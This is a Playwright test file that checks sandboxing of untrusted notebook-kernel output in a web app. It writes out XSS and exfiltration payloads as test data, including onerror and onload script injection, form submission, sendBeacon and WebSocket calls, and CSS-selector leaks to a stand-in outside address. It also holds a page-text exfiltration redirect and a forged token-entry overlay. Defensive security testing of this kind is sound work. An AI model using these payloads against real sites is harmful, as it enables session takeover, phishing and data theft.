"""Nothing that a kernel says runs with the page's origin, leaves its frame, or passes for the page.

Each output tries what a kernel that is not trusted may try. An attempt that gets through to the
page sets ``window.taken`` there, moves the page, or asks another server.
"""

from __future__ import annotations

import asyncio
import json

import pytest
from playwright.async_api import Dialog, FrameLocator, Page, expect

from tests.page.conftest import OpenPage
from tests.page.kernels import shown
from tests.support.running import KernelStarter

ELSEWHERE = "http://203.0.113.7/"
"""An address that nobody has; where it is asked, something has got out."""

BLOCKED = (
    *("Content Security Policy", "Content-Security-Policy", "sandboxed", "Blocked", "blocked"),
    *("Unsafe attempt", "SecurityError", "ERR_BLOCKED", "violates"),
)
"""How the browser tells that it has not let an output do something."""

REACH = (
    "const reach = [];"
    "const attempt = (name, work) => { try { work(); reach.push(name); } catch { /* refused */ } };"
    "attempt('document', () => { parent.document.title = 'taken'; });"
    "attempt('window', () => { parent.taken = true; });"
    "attempt('storage', () => sessionStorage.length);"
    "attempt('cookies', () => { document.cookie = 'a=b'; });"
    "attempt('top', () => { top.location.href = '/docs'; });"
    "const ask = fetch('/api/kernels').then(() => reach.push('fetch'), () => 0);"
    "ask.then(() => document.body.append('reached: [' + reach + '], origin ' + self.origin));"
)
"""A script that tells, in its frame, what it has got hold of."""


async def opened(
    open_page: OpenPage,
    start: KernelStarter,
    *outputs: dict[str, str],
    allow: str = "",
) -> tuple[Page, list[str]]:
    """The output view of a kernel that has displayed these, and what gets out of it.

    The page is no other test's: what Chromium tells of the frames may come after the view is left.
    """
    escaped: list[str] = []
    kernel = await shown(start, *outputs)
    # High enough for all outputs to be in the page at once.
    tall = {"width": 1440, "height": 2000}
    address = f"#/kernels/{kernel}/output?from=beginning"
    page, watch = await open_page(address, viewport=tall, fresh=True)
    watch.allow(*BLOCKED, *([allow] if allow else []))
    # Playwright tells of requests that the policy has stopped before they were sent, too.
    watch.allow(f"request to elsewhere: {ELSEWHERE}")

    async def refused(dialog: Dialog) -> None:
        escaped.append(f"a dialog: {dialog.message}")
        await dialog.dismiss()

    page.on("requestfinished", lambda request: note(escaped, request.url, "an answer"))
    page.on("requestfailed", lambda request: note(escaped, request.url, request.failure or ""))
    page.on("dialog", refused)
    page.on("popup", lambda popup: escaped.append(f"a window: {popup.url}"))
    await expect(page.locator(".row-display")).to_have_count(len(outputs))
    return page, escaped


def note(escaped: list[str], address: str, outcome: str) -> None:
    """Note a request to elsewhere that was not stopped by the policy."""
    if address.startswith(ELSEWHERE) and outcome not in ("csp", "net::ERR_BLOCKED_BY_CSP"):
        escaped.append(f"{address}: {outcome}")


def frame(page: Page, number: int = 0) -> FrameLocator:
    return page.frame_locator("iframe").nth(number)


async def untouched(page: Page, escaped: list[str]) -> None:
    """The page is where it was, nobody has run anything in it, and nothing has got out."""
    assert escaped == []
    assert await page.evaluate("window.taken") is None
    assert await page.title() != "taken"
    assert "/output" in page.url
    assert await page.evaluate("sessionStorage['kernelkeep.token'] !== ''")
    assert len(page.context.pages) == 1


async def test_a_script_has_neither_the_page_nor_its_origin_nor_the_network(
    open_page: OpenPage, start: KernelStarter
) -> None:
    script = f"<script>{REACH}</script>"
    page, escaped = await opened(
        open_page,
        start,
        {"text/html": script},
        {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'></svg>{script}"},
        {"application/javascript": REACH},
    )
    for number in range(3):
        body = frame(page, number).locator("body")
        await expect(body).to_contain_text("reached: [], origin null")
    await untouched(page, escaped)


TRIES = [
    "<img src=x onerror='parent.taken = 1; document.body.append(\"ran\")'>",
    "<svg onload='parent.taken = 1'></svg><details open ontoggle='parent.taken = 1'></details>",
    "<iframe srcdoc='<script>top.taken = 1; top.location = \"/docs\"</script>'></iframe>",
    "<object data='data:text/html,<script>top.taken = 1</script>'></object><embed src='/docs'>",
    "<base href='http://203.0.113.7/'><link rel='stylesheet' href='x.css'><img src='y.png'>",
    "<form action='http://203.0.113.7/' id='f'></form><script>f.submit()</script>",
    "<script>window.open('http://203.0.113.7/'); alert(1); prompt('Password?')</script>",
    "<script>new WebSocket('ws://203.0.113.7/'); navigator.sendBeacon('http://203.0.113.7/')"
    "</script>",
    "<script>new Worker(URL.createObjectURL(new Blob(['fetch(\"http://203.0.113.7/\")'])))"
    "</script>",
    "<style>@import 'http://203.0.113.7/a'; body { background: url('http://203.0.113.7/b') }"
    "input[value^=a] { background: url('http://203.0.113.7/c') }</style><input value='abc'>",
    "<link rel='prefetch' href='http://203.0.113.7/'>"
    "<link rel='dns-prefetch' href='//203.0.113.7'>",
]


# So many fit into the list, which has those alone in the page that can be seen.
@pytest.mark.parametrize("tries", [TRIES[:6], TRIES[6:]], ids=["first", "last"])
async def test_what_markup_tries_stays_in_its_frame(
    open_page: OpenPage, start: KernelStarter, tries: list[str]
) -> None:
    after = "<p id='after'>after</p>"
    outputs = [{"text/html": markup + after} for markup in tries]
    page, escaped = await opened(open_page, start, *outputs)
    for number in range(len(tries)):
        await expect(frame(page, number).locator("#after")).to_have_text("after")
    await asyncio.sleep(0.5)  # what it has begun would show by now: nothing is awaited
    await untouched(page, escaped)


async def test_a_frame_that_leads_elsewhere_is_taken_away(
    open_page: OpenPage, start: KernelStarter
) -> None:
    tries = [
        "<meta http-equiv='refresh' content='0;url=/docs'>",
        "<script>location.href = '/docs'</script>",
        "<script>location.href = 'http://203.0.113.7/' + document.body.innerText</script>",
    ]
    refused = "status of 403 (Forbidden)"  # the API's documentation wants a token, too
    outputs = [{"text/html": markup} for markup in tries]
    page, escaped = await opened(open_page, start, *outputs, allow=refused)
    await expect(page.get_by_text("it tried to lead elsewhere")).to_have_count(len(tries))
    await expect(page.locator("iframe")).to_have_count(0)
    await untouched(page, escaped)


async def test_an_overlay_and_a_forged_prompt_stay_within_a_frame_that_is_named(
    open_page: OpenPage, start: KernelStarter
) -> None:
    prompt = "<h1>kernelkeep: your token has ended</h1><input id='token' autofocus>"
    overlay = (
        "<div style='position: fixed; inset: -5000px; z-index: 2147483647; background: red'>"
        f"{prompt}</div><div style='height: 100000px'></div>"
    )
    page, escaped = await opened(open_page, start, {"text/html": overlay})
    await expect(frame(page).locator("#token")).to_be_attached()
    await expect(page.locator("iframe")).to_have_css("height", "480px")
    box = await page.locator("iframe").bounding_box()
    assert box is not None
    assert box["height"] <= 482
    await expect(page.get_by_text("HTML of the kernel")).to_be_visible()
    assert await page.evaluate("document.activeElement.tagName") != "IFRAME"
    await page.get_by_role("button", name="From the end").click()
    await untouched(page, escaped)


async def test_markdown_and_formulas_are_text_links_and_tables_alone(
    open_page: OpenPage, start: KernelStarter
) -> None:
    markdown = (
        "# Head\n<script>window.taken = 1</script><img src=x onerror='window.taken = 1'>\n\n"
        "[bad](javascript:window.taken=1) [data](data:text/html,x) [good](https://example.org/)\n"
        "![far](http://203.0.113.7/x.png)\n<style>* { display: none }</style>\n"
        "<div style='position:fixed;inset:0' class='toast' id='main'>over</div>\n\n"
        "|a|b|\n|:-:|--:|\n|1|2|\n\n$\\href{javascript:alert(1)}{x}$ $x^2$"
    )
    latex = "$\\class{toast}{\\style{position:fixed}{x}} \\unicode{x}$"
    page, escaped = await opened(
        open_page, start, {"text/markdown": markdown}, {"text/latex": latex}
    )
    made = page.locator(".marked").first
    await expect(made.get_by_role("heading", name="Head")).to_be_visible()
    links = await made.locator("a[href]").evaluate_all("all => all.map(a => [a.href, a.rel])")
    assert links == [["https://example.org/", "noopener noreferrer nofollow"]]
    risky = "script, style, img[src], [style], [class], [id], iframe, form, input"
    assert await made.locator(risky).count() == 0
    await expect(made.locator("math").last).to_be_visible()
    await untouched(page, escaped)


async def test_a_frame_that_keeps_the_page_busy_is_taken_away(
    open_page: OpenPage, start: KernelStarter
) -> None:
    flood = (
        "<script>setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage({}, '*') })"
    )
    page, escaped = await opened(open_page, start, {"text/html": f"{flood}</script>"})
    await expect(page.get_by_text("it kept the page busy")).to_be_visible()
    await untouched(page, escaped)


async def test_a_script_that_never_ends_does_not_stop_the_page(
    open_page: OpenPage, start: KernelStarter
) -> None:
    page, _ = await opened(open_page, start, {"text/html": "<script>for (;;) {}</script>"})
    await expect(page.locator("iframe")).to_be_attached()
    await page.get_by_role("link", name="Executions").click()
    await expect(page.get_by_role("region", name="Timeline of executions")).to_be_visible()


async def test_messages_that_another_window_forges_change_nothing(
    open_page: OpenPage, start: KernelStarter
) -> None:
    forged = json.dumps({"kernelkeep": "height", "height": "1e9px; background: url(x)"})
    liar = f"<script>parent.postMessage({forged}, '*')</script><p>liar</p>"
    page, escaped = await opened(
        open_page, start, {"text/html": liar}, {"text/html": "<p>other</p>"}
    )
    await expect(frame(page).locator("p")).to_have_text("liar")
    heights = await page.locator("iframe").evaluate_all("all => all.map(f => f.offsetHeight)")
    assert all(20 < height < 200 for height in heights)
    await untouched(page, escaped)
